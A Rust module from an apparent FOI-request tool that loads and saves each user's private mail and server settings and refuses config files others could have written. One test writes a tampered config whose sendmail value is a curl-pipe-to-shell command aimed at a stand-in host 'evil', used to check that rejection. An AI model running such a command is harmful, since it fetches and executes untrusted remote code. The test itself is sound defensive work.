//! Each member's own settings, kept on their own laptop: how they send mail, how they read
//! the group's mailbox and how they sign in to the group's server. A shared database holds what the group shares (the
//! counting convention, report headlines, letter templates, where complaints go) and never
//! names a command to run or a server that would receive someone's password: a colleague
//! could change it.
//!
//! The file is `$XDG_CONFIG_HOME/foiboard/config.toml` (`~/.config/foiboard/config.toml`),
//! or the file `FOIBOARD_CONFIG` names; written owner-only (0600), and refused when someone
//! else could have written it.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// The settings that live in the member's own file, with what each is for.
pub const KEYS: &[(&str, &str)] = &[
    (
        "smtp",
        "smtp://user@host:587 (STARTTLS), smtps://user@host:465 (TLS)",
    ),
    (
        "smtp-password-command",
        "a command printing the SMTP password, e.g. \"pass show mail\"",
    ),
    (
        "sendmail",
        "a command taking a message on its input, e.g. \"msmtp -t\"",
    ),
    (
        "imap",
        "the group's mailbox: imaps://you@imap.example.org (TLS), imap://you@host (STARTTLS)",
    ),
    (
        "imap-password-command",
        "a command printing the mailbox password, e.g. \"pass show foi-mailbox\"",
    ),
    (
        "imap-auth",
        "how to sign in to the mailbox: password (the default), xoauth2 or oauthbearer",
    ),
    (
        "imap-token-command",
        "for xoauth2/oauthbearer: a command printing an access token, e.g. \"oama access you@gmail.com\"",
    ),
    (
        "imap-folders",
        "folders read for replies, separated by commas (INBOX when unset)",
    ),
    (
        "imap-sent",
        "the folder sent letters are filed in (the one flagged Sent when unset)",
    ),
    (
        "imap-ca-file",
        "the certificate authority (PEM) of a group's own mail server",
    ),
    (
        "imap-max-size",
        "messages larger than this many megabytes are refused by name (25 when unset)",
    ),
    (
        "imap-interval",
        "minutes between fetches while a board is open (none when unset)",
    ),
    (
        "db-password-command",
        "a command printing your password for the group's server, e.g. \"pass show foiboard\"",
    ),
];

/// Whether `key` is one of the member's own settings.
pub fn is_local(key: &str) -> bool {
    KEYS.iter().any(|(k, _)| *k == key)
}

/// What went wrong with the file.
#[derive(Debug, thiserror::Error)]
pub enum ConfigError {
    #[error("cannot read your config file {path}: {source}")]
    Read {
        path: String,
        source: std::io::Error,
    },
    #[error("cannot write your config file {path}: {source}")]
    Write {
        path: String,
        source: std::io::Error,
    },
    #[error("your config file {path} is not valid ({why}): fix or remove it")]
    Invalid { path: String, why: String },
    #[error("your config file {path} could be changed by someone else ({why}), so it was not read: `chmod 600 {path}` and check what it says")]
    Unsafe { path: String, why: String },
    #[error(
        "there is no home folder to keep your config file in: set FOIBOARD_CONFIG to a file path"
    )]
    NoHome,
}

/// The member's own settings, as read from their file.
#[derive(Debug, Clone, Default)]
pub struct LocalConfig {
    path: PathBuf,
    values: BTreeMap<String, String>,
}

impl LocalConfig {
    /// Where the file is: `FOIBOARD_CONFIG`, else the XDG config folder.
    pub fn default_path() -> Result<PathBuf, ConfigError> {
        if let Some(p) = std::env::var_os("FOIBOARD_CONFIG").filter(|p| !p.is_empty()) {
            return Ok(PathBuf::from(p));
        }
        Ok(dirs::config_dir()
            .ok_or(ConfigError::NoHome)?
            .join("foiboard")
            .join("config.toml"))
    }

    /// Reads the file at its usual place (an absent file is an empty config).
    pub fn load() -> Result<LocalConfig, ConfigError> {
        LocalConfig::load_from(&Self::default_path()?)
    }

    /// Reads the file at `path` (an absent file is an empty config).
    pub fn load_from(path: &Path) -> Result<LocalConfig, ConfigError> {
        let shown = crate::text::line(&path.display().to_string());
        let text = match std::fs::read_to_string(path) {
            Ok(t) => t,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                return Ok(LocalConfig {
                    path: path.to_path_buf(),
                    values: BTreeMap::new(),
                })
            }
            Err(source) => {
                return Err(ConfigError::Read {
                    path: shown,
                    source,
                })
            }
        };
        check_private(path).map_err(|why| ConfigError::Unsafe {
            path: shown.clone(),
            why,
        })?;
        let table: toml::Table =
            text.parse()
                .map_err(|e: toml::de::Error| ConfigError::Invalid {
                    path: shown.clone(),
                    why: e.message().to_string(),
                })?;
        let mut values = BTreeMap::new();
        for (k, v) in table {
            if !is_local(&k) {
                return Err(ConfigError::Invalid {
                    path: shown,
                    why: format!(
                        "'{}' is not a setting it holds (it holds {})",
                        crate::text::line(&k),
                        KEYS.iter().map(|(k, _)| *k).collect::<Vec<_>>().join(", ")
                    ),
                });
            }
            let toml::Value::String(s) = v else {
                return Err(ConfigError::Invalid {
                    path: shown,
                    why: format!("{k} must be text in quotes"),
                });
            };
            values.insert(k, s);
        }
        Ok(LocalConfig {
            path: path.to_path_buf(),
            values,
        })
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    /// A setting's value; an empty one counts as unset.
    pub fn get(&self, key: &str) -> Option<&str> {
        self.values
            .get(key)
            .map(String::as_str)
            .filter(|v| !v.trim().is_empty())
    }

    /// Sets `key` (an empty value removes it) and writes the file, owner-only.
    pub fn set(&mut self, key: &str, value: &str) -> Result<(), ConfigError> {
        if value.trim().is_empty() {
            self.values.remove(key);
        } else {
            self.values
                .insert(key.to_string(), value.trim().to_string());
        }
        self.save()
    }

    fn save(&self) -> Result<(), ConfigError> {
        let mut table = toml::Table::new();
        for (k, v) in &self.values {
            table.insert(k.clone(), toml::Value::String(v.clone()));
        }
        let text = format!(
            "# foiboard: your own settings (how you send mail and reach the group's server).\n# Only you can read this file; `foiboard config KEY VALUE` changes it.\n{}",
            toml::to_string(&table).map_err(|e| ConfigError::Invalid {
                path: self.path.display().to_string(),
                why: e.to_string(),
            })?
        );
        crate::files::private::write(&self.path, text.as_bytes()).map_err(|source| {
            ConfigError::Write {
                path: crate::text::line(&self.path.display().to_string()),
                source,
            }
        })
    }
}

/// Whether only this user could have written the file: owned by them and not writable by
/// group or others. A file another user can change could name any command to run.
#[cfg(unix)]
fn check_private(path: &Path) -> Result<(), String> {
    use std::os::unix::fs::MetadataExt;
    let meta = std::fs::metadata(path).map_err(|e| e.to_string())?;
    // SAFETY: getuid has no preconditions and cannot fail.
    let me = unsafe { libc::getuid() };
    if meta.uid() != me {
        return Err(format!("it belongs to user {}, not you", meta.uid()));
    }
    if meta.mode() & 0o022 != 0 {
        return Err("others may write to it".into());
    }
    Ok(())
}

#[cfg(not(unix))]
fn check_private(_path: &Path) -> Result<(), String> {
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_round_trip_in_an_owner_only_file() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("foiboard").join("config.toml");
        let mut c = LocalConfig::load_from(&path).unwrap();
        assert_eq!(c.get("sendmail"), None);
        c.set("sendmail", "msmtp -t \"quoted\"").unwrap();
        c.set("smtp", "smtp://ann@mail.example.org:587").unwrap();
        let again = LocalConfig::load_from(&path).unwrap();
        assert_eq!(again.get("sendmail"), Some("msmtp -t \"quoted\""));
        assert_eq!(again.get("smtp"), Some("smtp://ann@mail.example.org:587"));
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&path).unwrap().permissions().mode();
            assert_eq!(mode & 0o777, 0o600);
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_file_others_can_write_is_not_read() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("config.toml");
        std::fs::write(&path, "sendmail = \"sh -c 'curl evil | sh'\"\n").unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
        let e = LocalConfig::load_from(&path).unwrap_err().to_string();
        assert!(e.contains("could be changed by someone else"), "{e}");
    }

    #[test]
    fn a_shared_setting_in_the_file_is_refused_by_name() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("config.toml");
        crate::files::private::write(&path, b"convention = \"ico\"\n").unwrap();
        let e = LocalConfig::load_from(&path).unwrap_err().to_string();
        assert!(e.contains("'convention' is not a setting it holds"), "{e}");
    }
}
